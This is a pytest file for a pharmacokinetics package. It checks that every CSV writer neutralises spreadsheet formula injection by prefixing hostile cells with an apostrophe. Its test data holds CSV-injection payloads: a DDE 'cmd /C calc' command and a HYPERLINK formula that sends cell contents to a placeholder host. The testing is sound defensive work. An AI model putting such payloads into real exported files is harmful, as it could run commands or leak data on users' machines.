"""Spreadsheet formula injection (issue 20): hostile subject ids, visits and adverse-event
terms go through every CSV writer of cellkin and come out neutralised (OWASP's CSV-injection
rule: a text cell starting with ``= + - @``, tab or CR gets a leading apostrophe; numbers are
untouched), and cellkin's own readers read the files back."""

from __future__ import annotations

import csv
import importlib
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import cellkin
from cellkin.cli import main

# Measured: the module's shared fixture takes over 5 s (pytest --durations).
pytestmark = pytest.mark.slow

csv_rules = importlib.import_module("cellkin._csv")

#: Payloads of the OWASP page and the adversarial run of issue 20.
HOSTILE = {
    "KD025-101": "=SUM(A1)",
    "KD025-106": "+cmd|' /C calc'!A0",
    "KD025-109": '@HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "KD025-112": "-2+3+cmd|' /C calc'!A0",
}
TERM = "=1+1"  # an adverse-event term
VISIT = "@SUM(1+1)"
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _hostile_study(folder: Path) -> dict[str, Path]:
    study = cellkin.load_example()
    paths = {}
    for name in ("kinetics", "subjects", "lesions", "adverse_events"):
        table = getattr(study, name)
        table = table[table["subject"].isin(HOSTILE)].copy()
        table["subject"] = table["subject"].map(HOSTILE)
        if name == "kinetics":
            table["visit"] = np.where(table["time"] > 20, VISIT, table["visit"])
        if name == "adverse_events":
            table.loc[table.index[:3], "term"] = TERM
        paths[name] = folder / f"{name}.csv"
        table.to_csv(paths[name], index=False)  # the user's input, written by pandas
    return paths


def _unsafe_cells(path: Path) -> list[str]:
    """Cells of a CSV file a spreadsheet would run as a formula."""
    with open(path, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    return [c for c in cells if c[:1] in csv_rules.FORMULA_TRIGGERS and not _NUMBER.fullmatch(c)]


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """Every writer run once on the hostile study: path -> the CSV files it wrote."""
    folder = tmp_path_factory.mktemp("hostile")
    inputs = _hostile_study(folder)
    quick = ["--jobs", "1", "--starts", "1", "--no-progress"]
    files: dict[str, list[Path]] = {}
    assert main(["nca", str(inputs["kinetics"]), "-o", str(folder / "nca.csv")]) == 0
    assert main(["nca", str(inputs["kinetics"]), "--long", "-o", str(folder / "long.csv")]) == 0
    files["cellkin nca"] = [folder / "nca.csv", folder / "long.csv"]
    assert main(["fit", str(inputs["kinetics"]), "-o", str(folder / "fit"), *quick]) == 0
    files["cellkin fit"] = sorted((folder / "fit").glob("*.csv"))
    batch = cellkin.fit_all(inputs["kinetics"], n_jobs=1, progress=False, n_starts=1)
    batch.to_csv(folder / "to_csv")
    files["BatchFit.to_csv"] = sorted((folder / "to_csv").glob("*.csv"))
    report = ["report", *map(str, inputs.values()), "-o", str(folder / "report"), *quick]
    assert main(report) == 0
    files["cellkin report"] = sorted((folder / "report" / "tables").glob("*.csv"))
    cellkin.write_nonmem(inputs["kinetics"], folder / "nonmem.csv", subjects=inputs["subjects"])
    files["write_nonmem"] = [folder / "nonmem.csv"]
    return inputs, files


def test_the_hostile_input_is_hostile(written):
    inputs, _ = written
    assert len(_unsafe_cells(inputs["kinetics"])) > 10  # what the writers are given


@pytest.mark.parametrize(
    "writer", ["cellkin nca", "cellkin fit", "BatchFit.to_csv", "cellkin report", "write_nonmem"]
)
def test_no_cell_a_spreadsheet_would_run(written, writer):
    _, files = written
    assert files[writer], f"{writer} wrote no CSV"
    for path in files[writer]:
        assert _unsafe_cells(path) == [], path.name
    ids = "\n".join(path.read_text(encoding="utf-8") for path in files[writer])
    assert "'=SUM(A1)" in ids and "'+cmd|" in ids  # the hostile ids are there, neutralised


def test_report_tables_carry_neutralised_terms_and_ids(written):
    _, files = written
    by_name = {path.stem: path for path in files["cellkin report"]}
    incidence = pd.read_csv(by_name["teae_incidence"])
    assert "'" + TERM in set(incidence["term"])
    assert "'" + HOSTILE["KD025-101"] in set(pd.read_csv(by_name["nca"])["subject"])


def test_cellkin_reads_its_own_files_back(written, tmp_path):
    inputs, files = written
    original = cellkin.read_kinetics(inputs["kinetics"])
    back = cellkin.read_kinetics(files["write_nonmem"][0])
    assert sorted(back["subject"].unique()) == sorted("'" + s for s in HOSTILE.values())
    np.testing.assert_allclose(
        back.sort_values(["subject", "assay", "time"])["time"],
        original.assign(subject="'" + original["subject"]).sort_values(
            ["subject", "assay", "time"]
        )["time"],
    )
    # a neutralised file is input like any other: fit it again, ids unchanged
    batch = cellkin.fit_all(files["write_nonmem"][0], n_jobs=1, progress=False, n_starts=1)
    assert set(batch.subjects) == set(back["subject"])


def test_numbers_and_plain_text_are_untouched():
    frame = pd.DataFrame({
        "subject": ["A-1", "=1", "-1.5", "+3e-2", None, "\tx", "\rx", "@x"],
        "value": [-1.0, 2.0, -3.5, 4.0, np.nan, 5.0, 6.0, 7.0],
        "flag": [True, False, True, False, True, False, True, False],
    })  # fmt: skip
    safe = csv_rules.neutralise(frame)
    assert safe["subject"].tolist() == ["A-1", "'=1", "-1.5", "+3e-2", None, "'\tx", "'\rx", "'@x"]
    pd.testing.assert_series_equal(safe["value"], frame["value"])
    pd.testing.assert_series_equal(safe["flag"], frame["flag"])
    clean = frame.iloc[:1]
    assert csv_rules.neutralise(clean) is clean  # nothing to change: no copy
    categories = frame.astype({"subject": "category"}).iloc[:2]
    assert csv_rules.neutralise(categories)["subject"].tolist() == ["A-1", "'=1"]
    assert list(csv_rules.neutralise(pd.DataFrame({"=x": [1]})).columns) == ["'=x"]
